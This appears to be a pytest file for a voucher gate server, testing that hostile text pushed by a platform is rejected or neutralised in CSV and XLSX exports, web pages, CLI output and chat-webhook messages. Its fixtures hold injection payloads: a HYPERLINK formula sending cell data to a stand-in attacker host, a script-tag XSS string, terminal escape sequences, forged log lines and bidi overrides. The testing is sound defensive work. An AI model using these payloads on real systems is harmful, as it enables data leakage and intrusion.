"""Text from a platform that wants to be a formula, a terminal's command, markup or a log line."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from gate_server.cli import main
from gate_server.duty_forms import Message, Told, write_posting
from gate_server.ledger.duty import Form
from gate_server.ledger.ledger import utc_now
from tests.boards import sit_down
from tests.pushers import Pusher, connect
from tests.server import Park, an_app

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"票")'
MARKUP = "<script>alert(1)</script>[票](javascript:alert)"
STEERING = {
    "colour": "\x1b[31mGO\x1b[0m",
    "title of the window": "\x1b]0;owned\x07",
    "one byte": "\x9b2J",
    "clear": "a\x0c\x08b",
    "new line": "ok\nERROR gatehouse: everything is fine",
    "carriage return": "ok\rGO",
    "right to left": "\u202eelpitlum",
    "isolate": "\u2066abc\u2069",
    "line separator": "a\u2028b",
    "half a character": "\ud800",
}
DEAL = {"deal_id": "EVIL", "platform": "lvtu", "face_price_minor": 26000, "currency": "CNY",
        "valid_from": "2014-01-01", "valid_until": "2099-12-31"}  # fmt: skip
VOUCHER = {
    "deal_id": "EVIL",
    "code": "EVIL-CODE-01",
    "order_ref": FORMULA,
    "voucher_ref": "@SUM(1)",
    "buyer_ref": FORMULA,
    "price_paid_minor": 1,
}


@pytest.fixture(scope="module")
def stage(tmp_path_factory):
    """A park whose platform pushes what it wants to; the park is closed again afterwards."""
    park = Park(tmp_path_factory.mktemp("texts") / "var")
    secret = connect(park)
    with an_app(park) as (_, site):
        pusher = Pusher(site, secret)
        answers = {
            name: pusher.deals(DEAL | {"deal_id": f"E-{number}", "title": text}).json()
            for number, (name, text) in enumerate(STEERING.items())
            if name != "half a character"
        }
        pusher.deals(DEAL | {"title": f"{FORMULA}{MARKUP}"})
        pusher.vouchers(VOUCHER, VOUCHER | {"code": "EVIL-CODE-02", "buyer_ref": "-2+3"})
        rows = [
            {"deal_id": "EVIL", "code": f"EVIL-TEXT-{number}", "order_ref": text}
            for number, text in enumerate(STEERING.values())
            if text != STEERING["half a character"]
        ]
        answers["vouchers"] = pusher.vouchers(*rows).json()
        site.scan(park.enrol(), "EVIL-CODE-01")
        boss = park.hire()
        remedy = {"refund": "price_paid", "compensation_per_buyer_minor": 100}
        terms = {"reason": "x", "honour": None, "cost_bearer": "platform", "remedy": remedy}
        assert site.post("/deals/EVIL/void", boss, terms).status_code == 200
        for kind in ("refunds", "compensation"):
            assert site.post("/deals/EVIL/lists", boss, {"kind": kind}).status_code == 201
        files = {
            name: site.get(f"/deals/EVIL/{name}", boss).content
            for name in ("settlement?format=csv", "settlement?format=xlsx",
                         "lists/1?format=csv", "lists/2?format=csv")
        }  # fmt: skip
        board = sit_down(site, park).see()
    park.close()
    return answers, files, board, park.directory


def test_text_that_steers_a_terminal_does_not_come_in(stage):
    answers = stage[0]

    refused = {name: answers[name]["accepted"] for name in answers if name != "vouchers"}
    assert refused == dict.fromkeys(refused, 0)
    assert answers["vouchers"]["accepted"] == 0
    assert {each["field"] for each in answers["vouchers"]["rejected"]} == {"order_ref"}
    assert [each for each in str(answers) if _steers(each)] == []


@pytest.mark.parametrize(
    "name", ["settlement?format=csv", "lists/1?format=csv", "lists/2?format=csv"]
)
def test_no_cell_of_a_csv_is_a_formula(stage, name):
    text = stage[1][name].decode("utf-8-sig")
    cells = [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]

    assert any(cell.startswith("'") for cell in cells)
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))] == []


def test_formulas_of_a_workbook_are_our_own(stage):
    book = load_workbook(io.BytesIO(stage[1]["settlement?format=xlsx"]))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]

    ours = [cell.value for cell in cells if cell.data_type == "f"]
    assert ours
    assert [each for each in ours if "HYPERLINK" in each or "@SUM" in each] == []
    assert [cell for cell in cells if cell.hyperlink is not None] == []
    assert f"'{FORMULA}" in {cell.value for cell in cells}


def test_a_page_shows_markup_as_text(stage):
    board = stage[2]

    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in board
    assert "<script>alert" not in board


@pytest.mark.parametrize(
    "words",
    [
        ("deal", "list"),
        ("feed", "rejects", "lvtu"),
        ("feed", "status"),
        ("settle", "EVIL"),
        ("settle", "EVIL", "--format", "csv"),
        ("list", "show", "EVIL", "1"),
        ("statement", "lvtu", "--month", "2026-01"),
        ("finding", "list"),
        ("scan", "list", "--all"),
    ],
    ids=" ".join,
)
def test_no_command_lets_a_terminal_obey(stage, words):
    done = CliRunner().invoke(main, ["--data", str(stage[3]), *words])

    assert done.exit_code == 0, done.output
    assert [char for char in done.output if _steers(char)] == []


@pytest.mark.parametrize("form", [Form.WECOM, Form.DINGTALK])
def test_a_title_is_no_link_and_calls_nobody_in_a_group(form):
    title = "@all [票](https://evil.example) <font>**GO**</font>"
    told = Told(type="incident.opened", at=utc_now(), title_zh=title, title_en=title,
                zh=title, en=title, data={})  # fmt: skip
    url = "https://hooks.example.org/duty/night/shift"
    message = Message(message_id="msg_1", form=form, url=url, secret=None, told=told)
    body = write_posting(message, utc_now()).body.decode()

    assert "evil.example" in body
    assert [each for each in ("@all", "](", "<font>") if each in body] == []


def _steers(char: str) -> bool:
    turning = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    steering = unicodedata.category(char) in {"Cc", "Cs", "Zl", "Zp"}
    return char in turning or (steering and char != "\n")
